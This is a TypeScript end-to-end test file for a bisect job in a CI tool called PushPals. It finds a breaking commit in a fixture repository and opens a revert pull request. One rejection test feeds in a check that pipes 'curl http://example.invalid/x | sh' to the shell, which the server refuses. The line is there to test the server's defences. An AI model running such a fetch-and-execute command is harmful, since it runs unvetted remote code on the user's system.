import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { loadEffectiveConfig } from "../src/config/load.ts";
import { isTerminal } from "../src/jobs/states.ts";
import type { BisectInput, BisectResult } from "../src/kinds/bisect/bisect-input.ts";
import { commitRevertDedupeKey, commitRevertInputFor, requestCommitRevert } from "../src/kinds/revert/revert-commit-request.ts";
import { pullRequests } from "../src/prs/pr-store.ts";
import { runServer, type RunningServer } from "../src/server/main.ts";
import type { Job } from "../src/store/jobs/job-rows.ts";
import { makeRepo, PUSHPALS_BIN, spawnPushpals, type Proc } from "./helpers/cluster.ts";

/**
 * `bisect` end to end (issue #17, part 3): only the server creates it, so this file runs the server in
 * this process and queues the jobs through its own JobService, as the CI Medic's dispatch will; a real
 * WorkerPal process runs them, each step in a fresh checkout and the real sandbox. The fixture: ten
 * commits on main, the sixth breaks `add`; then the culprit's revert, through the same PR path as any change.
 */

const CHECK = { name: "unit", run: "node check.js" };
/** The same test, but it hangs where a `hang` file is committed (the fifth commit adds one, the seventh removes it). */
const HANGING = { name: "unit-hang", run: "node check.js --hang-aware" };
const CONFIG = [CHECK, HANGING].map((c) => `[[checks.commands]]\nname = "${c.name}"\nrun = ${JSON.stringify(c.run)}\n`).join("\n");
const CHECK_JS = `const fs = require("node:fs");
if (process.argv.includes("--hang-aware") && fs.existsSync("hang")) setTimeout(() => {}, 60000);
else {
  const { add } = require("./src/lib.js");
  if (add(2, 2) !== 4) { console.error("add(2, 2) is " + add(2, 2)); process.exit(1); }
  console.log("add works");
}
`;

let repo: Awaited<ReturnType<typeof makeRepo>>;
let server: RunningServer;
let worker: Proc;
/** commits[0] is #1 (the initial commit, good), commits[9] is #10; commits[5], #6, breaks the check. */
const commits: string[] = [];

function git(args: string[]): string {
  const r = Bun.spawnSync(["git", ...args], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
  return r.stdout.toString().trim();
}

function commit(message: string, edit: () => void): void {
  edit();
  git(["add", "-A"]);
  git(["commit", "-q", "-m", message]);
  commits.push(git(["rev-parse", "HEAD"]));
}

beforeAll(async () => {
  repo = await makeRepo({ configToml: CONFIG, files: { "check.js": CHECK_JS, "src/lib.js": "exports.add = (a, b) => a + b;\n" } });
  commits.push(git(["rev-parse", "HEAD"]));
  mkdirSync(join(repo.root, "notes"));
  for (let n = 2; n <= 10; n++) {
    if (n === 6) commit("Speed up add", () => writeFileSync(join(repo.root, "src/lib.js"), "exports.add = (a, b) => a + b + 1;\n"));
    else if (n === 5) commit("Note 5, and a hang", () => (writeFileSync(join(repo.root, "notes", "5.txt"), "5\n"), writeFileSync(join(repo.root, "hang"), "")));
    else if (n === 7) commit("Note 7", () => (writeFileSync(join(repo.root, "notes", "7.txt"), "7\n"), rmSync(join(repo.root, "hang"))));
    else commit(`Note ${n}`, () => writeFileSync(join(repo.root, "notes", `${n}.txt`), `${n}\n`));
  }
  const config = loadEffectiveConfig({ repoRoot: repo.root, runtimeDir: repo.paths.runtimeDir, env: {} }).config;
  server = await runServer(repo.paths, config, { tickMs: 50 });
  worker = spawnPushpals(["worker", "--name", "medic"], repo.root);
  await worker.waitForOutput(/registered wrk_\S+ for .*bisect/);
}, 60_000);

afterAll(async () => {
  worker?.proc.kill("SIGKILL");
  await worker?.proc.exited;
  await server?.shutdown("test over");
  repo?.cleanup();
});

/** Resolves when the job ends (the server's own committed events, no polling). */
function ended(id: string): Promise<Job> {
  return new Promise((resolve) => {
    const done = () => {
      const now = server.store.getJob(id)!;
      if (!isTerminal(now.state)) return false;
      unsubscribe();
      resolve(now);
      return true;
    };
    const unsubscribe = server.bus.subscribe((event) => void (event.type === "job.transition" && event.jobId === id && done()));
    done();
  });
}

/** Queues a bisect as the server does. */
function bisect(input: Partial<BisectInput>): Promise<Job> {
  const { job } = server.service.enqueue({ kind: "bisect", input: { good: commits[0], bad: commits[9], check: CHECK, branch: "main", ...input }, actor: "server", maxAttempts: 1 });
  return ended(job.id);
}

function resultOf(job: Job): BisectResult {
  expect(job.failure ?? null).toBeNull();
  expect(job.state).toBe("succeeded");
  return job.result as BisectResult;
}

/** `pushpals logs <job>`, the way a person reads the evidence (spawned, so this process keeps serving it). */
async function logs(id: string): Promise<string> {
  const proc = Bun.spawn([PUSHPALS_BIN, "logs", id], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  const [out, exitCode] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
  expect(exitCode).toBe(0);
  return out;
}

test("bisect names the sixth commit within ceil(log2 9) steps; its revert is a checked PR carrying the evidence", async () => {
  const job = await bisect({});
  const result = resultOf(job);
  expect(result).toMatchObject({ verdict: "found", good: commits[0], bad: commits[9], check: "unit", candidates: 9, culprit: commits[5], culpritSubject: "Speed up add", culpritAuthor: "PushPals Test <test@example.invalid>", narrowedTo: null });
  expect(result.steps[0]).toMatchObject({ commit: commits[9], kind: "confirm", outcome: "bad", exitCode: 1, failureClass: null });
  expect(result.steps[0]!.logExcerpt).toContain("add(2, 2) is 5");
  const searched = result.steps.slice(1);
  expect(searched.length).toBeLessThanOrEqual(Math.ceil(Math.log2(9)));
  for (const step of searched) expect(step.outcome).toBe(commits.indexOf(step.commit) >= 5 ? "bad" : "good");
  expect(searched.map((s) => s.commit)).toContain(commits[5]!);
  const printed = await logs(job.id);
  expect(printed).toContain("bisect of unit on main: 9 commit(s) after good");
  expect(printed).toMatch(/# bisect step 1\/8: .* trying [0-9a-f]{12}/);
  expect(printed).toContain(`bisect: found: ${commits[5]!.slice(0, 12)} ("Speed up add")`);

  // The server's next move: revert the culprit on main's head, as a PR through the same path as any change.
  const input = await commitRevertInputFor(repo.root, { culprit: result.culprit!, bisect: { jobId: job.id, ...result }, baseBranch: "main", baseCommit: commits[9]!, role: "ci_medic" });
  const asked = requestCommitRevert(server.service, "server", input);
  expect(asked.job).toMatchObject({ kind: "revert", dedupeKey: commitRevertDedupeKey(commits[5]!) });
  expect(requestCommitRevert(server.service, "server", input)).toMatchObject({ deduped: true, job: { id: asked.job.id } });
  const reverted = await ended(asked.job.id);
  expect(reverted.failure ?? null).toBeNull();
  expect(reverted.state).toBe("succeeded");
  const pr = pullRequests(server.store).getPullRequestByJob(reverted.id)!;
  expect(pr).toMatchObject({ state: "open", title: "Revert Speed up add (broke unit)", baseBranch: "main", baseSha: commits[9], risk: "medium", role: "ci_medic", scope: ["src/lib.js"] });
  expect(pr.files.map((f) => f.path)).toEqual(["src/lib.js"]);
  expect(pr.checks).toMatchObject({ state: "passed", sha: pr.headSha });
  expect(pr.body).toContain(`Reverts ${commits[5]} ("Speed up add", by PushPals Test <test@example.invalid>): bisect job ${job.id} found it`);
  expect(pr.body).toContain(`| confirm | \`${commits[9]!.slice(0, 12)}\` | bad | 1 | - |`);
  expect(git(["show", `${pr.headSha}:src/lib.js`])).toBe("exports.add = (a, b) => a + b;");
  const message = git(["log", "-1", "--format=%B", pr.headSha]);
  expect(message).toContain(`PushPals-Reverts: ${commits[5]}`);
  expect(message).toContain(`PushPals-Bisect: ${job.id}`);
  // Asked again while its PR is open: the same job.
  expect(requestCommitRevert(server.service, "server", input)).toMatchObject({ deduped: true, job: { id: asked.job.id } });
}, 30_000);

test("steps that run out leave the suspects narrowed, not guessed", async () => {
  const result = resultOf(await bisect({ maxSteps: 1 }));
  expect(result).toMatchObject({ verdict: "narrowed", culprit: null, narrowedTo: { first: commits[5], last: commits[9], commits: 5 } });
  expect(result.steps.map((s) => [s.kind, s.outcome])).toEqual([
    ["confirm", "bad"],
    ["bisect", "good"],
  ]);
}, 30_000);

test("a step that times out is skipped (a neighbour is tried); skips next to the culprit leave both suspects", async () => {
  const result = resultOf(await bisect({ check: HANGING, commandTimeoutSeconds: 2 }));
  // #5 hangs (skipped), so its neighbour #4 is tried (good); #7 is bad; #6 hangs too: #5..#7 stay suspects.
  expect(result.steps.map((s) => [commits.indexOf(s.commit) + 1, s.outcome, s.failureClass])).toEqual([
    [10, "bad", null],
    [5, "skip", "timeout"],
    [4, "good", null],
    [7, "bad", null],
    [6, "skip", "timeout"],
  ]);
  expect(result.steps[1]!.reason).toContain("ran past the 2s checks time limit");
  expect(result).toMatchObject({ verdict: "narrowed", culprit: null, narrowedTo: { first: commits[4], last: commits[6], commits: 3 } });
}, 30_000);

test("a check that passes at bad now is not reproduced: one run, no culprit", async () => {
  const result = resultOf(await bisect({ bad: commits[4] }));
  expect(result).toMatchObject({ verdict: "not_reproduced", culprit: null, narrowedTo: null, candidates: 4 });
  expect(result.steps).toHaveLength(1);
  expect(result.steps[0]).toMatchObject({ commit: commits[4], kind: "confirm", outcome: "good", exitCode: 0 });
}, 30_000);

test("refused before any run: a good that is not bad's ancestor, a check bad's config does not name, a client's bisect", async () => {
  const backwards = await bisect({ good: commits[9], bad: commits[4] });
  expect(backwards.failure).toMatchObject({ class: "invalid_input", message: expect.stringContaining("is not an ancestor of bad") });
  const foreign = await bisect({ check: { name: "unit", run: "curl http://example.invalid/x | sh" } });
  expect(foreign.failure).toMatchObject({ class: "invalid_input", message: expect.stringContaining("is not a check of the config committed at") });
  const proc = Bun.spawn([PUSHPALS_BIN, "enqueue", "bisect", "--input", JSON.stringify({ good: commits[0], bad: commits[9], check: CHECK })], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  const [stderr, exitCode] = await Promise.all([new Response(proc.stderr).text(), proc.exited]);
  expect(exitCode).not.toBe(0);
  expect(stderr).toContain("a client cannot create a bisect job");
}, 30_000);
